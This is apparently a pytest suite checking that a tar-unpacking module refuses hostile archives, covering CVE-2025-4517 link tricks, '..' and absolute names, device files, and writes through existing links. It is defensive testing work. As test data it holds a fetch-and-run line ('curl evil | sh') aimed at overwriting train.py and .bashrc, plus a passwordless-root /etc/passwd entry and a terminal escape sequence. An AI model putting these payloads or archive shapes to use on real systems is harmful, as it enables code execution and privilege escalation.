"""core/untar.py against hostile tars: whatever a tar holds, nothing outside the folder it
is unpacked into changes, no link is made or followed, and what is refused is said in one clear line.

Each case plants sentinels beside the staging folder (a project with its train.py, a fake home with its
.bashrc) and compares the whole tree outside staging byte for byte before and after. The first case is
CVE-2025-4517's proof of concept: on Python 3.11.7 `extractall(filter="data")` overwrites the project's
train.py with it (client/jobs/copyout.py once did that).
"""

from __future__ import annotations

import io
import os
import stat
import tarfile
from pathlib import Path

import pytest
from fakes.tars import cve_2025_4517, member, only_files_and_folders, outside, plant, tar_of, truncated_huge
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gpuc.core.errors import GpucError
from gpuc.core.untar import make_links, plain_parts, unpack

EXAMPLES = int(os.environ.get("GPUC_HOSTILE_EXAMPLES", "300"))


def hostile(root: Path) -> dict[str, tuple[bytes, str | None]]:
    """id -> (tar, the refusal's words; None: unpacked, links only written down)."""
    train, bashrc = root / "project" / "train.py", root / "home" / ".bashrc"
    evil = b"import os; os.system('curl evil | sh')\n"
    return {
        "cve-2025-4517-project": (tar_of(*cve_2025_4517("project", "train.py", evil)), "a name below a link"),
        "cve-2025-4517-home": (tar_of(*cve_2025_4517("home", ".bashrc", evil)), "a name below a link"),
        "symlink-then-file": (
            tar_of(member("p", "l", target="../project"), member("p/train.py", "f", evil)),
            "below a link",
        ),
        "absolute-symlink-then-file": (
            tar_of(member("h", "l", target=str(root / "home")), member("h/.bashrc", "f", evil)),
            "below a link",
        ),
        "file-then-link-over-its-folder": (
            tar_of(member("p/x", "f", b"x"), member("p", "l", target="../project")),
            "a link where a folder already holds entries",
        ),
        "hardlink-to-passwd-then-write": (
            tar_of(member("pw", "h", target="/etc/passwd"), member("pw", "f", b"root::0:0::/:/bin/sh\n")),
            "a name that comes twice",
        ),
        "hardlink-outside": (tar_of(member("t", "h", target=str(train))), None),
        "symlink-outside": (tar_of(member("rc", "l", target=str(bashrc)), member("ok.txt", "f", b"ok")), None),
        "dotdot-name": (tar_of(member("../project/train.py", "f", evil)), "'..' part"),
        "dotdot-inside-name": (tar_of(member("a/../../project/train.py", "f", evil)), "'..' part"),
        "absolute-name": (tar_of(member(str(train), "f", evil)), "an absolute name"),
        "dot-name": (tar_of(member("./a", "f", b"x")), "an empty, '.'"),
        "backslash-name": (tar_of(member("..\\project\\train.py", "f", evil)), "backslash"),
        "control-character-name": (tar_of(member("a\x1b]0;pwned\x07", "f", b"x")), "control character"),
        "duplicate-name": (tar_of(member("a.txt", "f", b"first"), member("a.txt", "f", b"second")), "comes twice"),
        "character-device": (tar_of(member("null", "chr")), "a device, fifo or other special file"),
        "block-device": (tar_of(member("sda", "blk")), "a device, fifo or other special file"),
        "fifo": (tar_of(member("pipe", "fifo")), "a device, fifo or other special file"),
        "huge-truncated": (truncated_huge(), "a damaged archive"),
        "not-a-tar": (b"<html>502 Bad Gateway</html>\n" * 40, "a damaged archive"),
    }


CASES = sorted(hostile(Path("/x")))


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_tar_changes_nothing_outside_and_says_why(tmp_path: Path, case: str) -> None:
    staging = plant(tmp_path)
    data, words = hostile(tmp_path)[case]
    before = outside(tmp_path)
    if words is None:
        done = unpack(io.BytesIO(data), staging)
        assert done.symlinks or done.hardlinks  # written down, not made
    else:
        with pytest.raises(GpucError) as refused:
            unpack(io.BytesIO(data), staging)
        assert words in refused.value.message and "\n" not in refused.value.message
    assert outside(tmp_path) == before
    only_files_and_folders(staging)


def test_modes_lose_setuid_and_group_world_write_and_keep_execute(tmp_path: Path) -> None:
    staging = plant(tmp_path)
    data = tar_of(
        member("run.sh", "f", b"#!/bin/sh\n", mode=0o6777),
        member("d", "d", mode=0o1777),
        member("d/plain", "f", b"x", mode=0o000),
    )
    done = unpack(io.BytesIO(data), staging)
    assert (done.files, done.dirs) == (2, 1)
    assert stat.S_IMODE((staging / "run.sh").stat().st_mode) == 0o755
    assert stat.S_IMODE((staging / "d" / "plain").stat().st_mode) == 0o600
    assert stat.S_IMODE((staging / "d").stat().st_mode) & 0o7022 == 0
    only_files_and_folders(staging)


def test_an_ordinary_tree_arrives_whole_in_chunks(tmp_path: Path) -> None:
    staging = plant(tmp_path)
    big = os.urandom(3 * 1024 * 1024 + 17)  # more than one chunk
    data = tar_of(
        member("results", "d"),
        member("results/ckpt", "d"),
        member("results/ckpt/model.bin", "f", big),
        member("results/latest", "l", target="ckpt/model.bin"),
        member("logs/job.log", "f", b"epoch 1\n"),  # its folder is not a member: made on the way
    )
    done = unpack(io.BytesIO(data), staging)
    assert (staging / "results" / "ckpt" / "model.bin").read_bytes() == big
    assert (staging / "logs" / "job.log").read_bytes() == b"epoch 1\n"
    assert done.symlinks == {"results/latest": "ckpt/model.bin"} and not (staging / "results" / "latest").exists()


def test_admit_sees_each_member_before_anything_of_it_is_written(tmp_path: Path) -> None:
    staging = plant(tmp_path)
    seen: list[tuple[str, list[object]]] = []

    def admit(name: str, entry: list[object]) -> None:
        seen.append((name, entry))
        if name == "b.txt":
            raise GpucError("not listed")

    data = tar_of(member("a.txt", "f", b"aa"), member("b.txt", "f", b"bb"), member("c", "l", target="a.txt"))
    with pytest.raises(GpucError, match="not listed"):
        unpack(io.BytesIO(data), staging, admit=admit)
    assert seen == [("a.txt", ["f", 2]), ("b.txt", ["f", 2])]
    assert not (staging / "b.txt").exists()


# -- a link already standing in the destination (the pod's workspace holds what the job made) ---------
def test_a_link_in_the_destination_is_never_written_through(tmp_path: Path) -> None:
    staging = plant(tmp_path)
    os.symlink(tmp_path / "project", staging / "data")  # a folder link
    os.symlink(tmp_path / "home" / ".bashrc", staging / "rc")  # a file link
    before = outside(tmp_path)
    for replace in (False, True):
        with pytest.raises(GpucError, match="a link or a file where a folder goes"):
            unpack(io.BytesIO(tar_of(member("data/train.py", "f", b"pwned\n"))), staging, replace=replace)
        assert outside(tmp_path) == before
    with pytest.raises(GpucError, match="already there"):
        unpack(io.BytesIO(tar_of(member("rc", "f", b"pwned\n"))), staging)
    unpack(io.BytesIO(tar_of(member("rc", "f", b"mine\n"))), staging, replace=True)  # the link replaced
    assert outside(tmp_path) == before
    assert not (staging / "rc").is_symlink() and (staging / "rc").read_bytes() == b"mine\n"


def test_replace_swaps_a_file_and_leaves_no_temporary(tmp_path: Path) -> None:
    staging = plant(tmp_path)
    (staging / "train.py").write_text("old\n")
    unpack(io.BytesIO(tar_of(member("train.py", "f", b"new\n"))), staging, replace=True)
    assert [p.name for p in staging.iterdir()] == ["train.py"] and (staging / "train.py").read_text() == "new\n"


# -- make_links: the pod makes the project's own links, after every file ------------------------------
@pytest.mark.parametrize(
    ("name", "target", "ok"),
    [
        ("alias.py", "train.py", True),
        ("a/b/up.txt", "../../top.txt", True),
        ("a/sib", "../c/./d", True),
        ("top", "../x", False),  # climbs out of the workspace
        ("a/x", "../../x", False),
        ("a/x", "b/../../x", False),  # a `..` after a name climbs from wherever that name leads
        ("sub/y", "d/../y", False),
        ("abs", "/etc/passwd", False),
        ("empty", "", False),
    ],
)
def test_make_links_makes_only_what_stays_inside(tmp_path: Path, name: str, target: str, ok: bool) -> None:
    staging = plant(tmp_path)
    before = outside(tmp_path)
    if ok:
        make_links(staging, {name: target})
        assert os.readlink(staging / name) == target
    else:
        with pytest.raises(GpucError, match="could lead out"):
            make_links(staging, {name: target})
        assert not (staging / name).is_symlink()
    assert outside(tmp_path) == before


def test_the_link_rule_holds_against_a_link_that_climbs(tmp_path: Path) -> None:
    """`sub/d -> ..` is inside; `x -> sub/d/../y` reads as sub/y but the kernel climbs out from d's target:
    refused, whatever order the links come in."""
    staging = plant(tmp_path)
    with pytest.raises(GpucError, match="could lead out"):
        make_links(staging, {"sub/d": "..", "x": "sub/d/../project/train.py"})
    assert list(staging.iterdir()) == []


# -- names ----------------------------------------------------------------------------------------------
def test_plain_parts() -> None:
    assert plain_parts("results/a b/ü.txt") == ["results", "a b", "ü.txt"]
    for bad in ("", "/etc", "a//b", "a/", "./a", "a/..", "..", "a\x00b", "a\\b", "a\nb", "a\x9bb"):
        with pytest.raises(GpucError):
            plain_parts(bad)


# -- any tar at all --------------------------------------------------------------------------------------
# Mostly plain parts and names, so that a draw gets past its first members and the rules meet each other;
# each hostile shape still comes often enough (a `..` part, an absolute name, a long part, a special file).
PLAIN = ["a", "b", "c", "project", "home", "train.py", ".bashrc"]
COMPONENTS = st.sampled_from([*PLAIN * 4, "..", "..", ".", "", "d" * 250])
NAMES = st.lists(COMPONENTS, min_size=1, max_size=4).map("/".join)
PREFIXES = st.sampled_from(["", "", "", "", "", "", "", "", "", "/"])
KINDS = st.sampled_from(["f", "f", "f", "f", "d", "d", "l", "l", "h", "chr", "fifo"])


def random_member(root: Path) -> st.SearchStrategy[tuple[tarfile.TarInfo, bytes]]:
    targets = (PREFIXES.flatmap(lambda p: NAMES.map(lambda n: p + n))) | st.sampled_from(
        [str(root / "project"), str(root / "home" / ".bashrc"), "/etc/passwd", "..", "../.."]
    )
    return st.builds(
        lambda prefix, name, kind, target, mode, body: member(prefix + name, kind, body, target, mode),
        PREFIXES,
        NAMES,
        KINDS,
        targets,
        st.integers(0, 0o7777),
        st.binary(max_size=64),
    )


# Links already in the destination, as a pod's workspace may hold (the job made them): never written through
PLANTED = {"a": "../project", "home": "../home", "train.py": "../project/train.py", "b/.bashrc": "../../home/.bashrc"}


def leads_inside(staging: Path, link: Path, planted: dict[str, str]) -> bool:
    """A link the tar made leads inside `staging`, or only as far as a link that was there before the unpack (the
    user's own, or an earlier hostile one: `unpack` never writes through either, and a link the tar makes to one
    reaches nothing that link did not reach already)."""
    resolved = Path(os.path.realpath(link))
    reached = [staging, *(Path(os.path.realpath(staging / name)) for name in planted)]
    return any(resolved == place or place in resolved.parents for place in reached)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_tar_never_writes_outside(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    root = tmp_path_factory.mktemp("any")
    staging = plant(root)
    members = data.draw(st.lists(random_member(root), max_size=12))
    replace = data.draw(st.booleans())
    planted = data.draw(st.booleans())
    if planted:
        (staging / "b").mkdir()
        for name, target in PLANTED.items():
            os.symlink(target, staging / name)
    before = outside(root)
    try:
        done = unpack(io.BytesIO(tar_of(*members)), staging, replace=replace)
        make_links(staging, done.symlinks, replace=replace)
    except GpucError as exc:
        assert "\n" not in exc.message
    assert outside(root) == before
    for dirpath, dirs, files in os.walk(staging):  # links not followed
        for path in (Path(dirpath) / n for n in dirs + files):
            name = str(path.relative_to(staging))
            if path.is_symlink() and not (planted and os.readlink(path) == PLANTED.get(name)):
                assert leads_inside(staging, path, PLANTED if planted else {}), (path, os.readlink(path))
            elif not path.is_symlink():
                assert path.lstat().st_mode & 0o7022 == 0, path
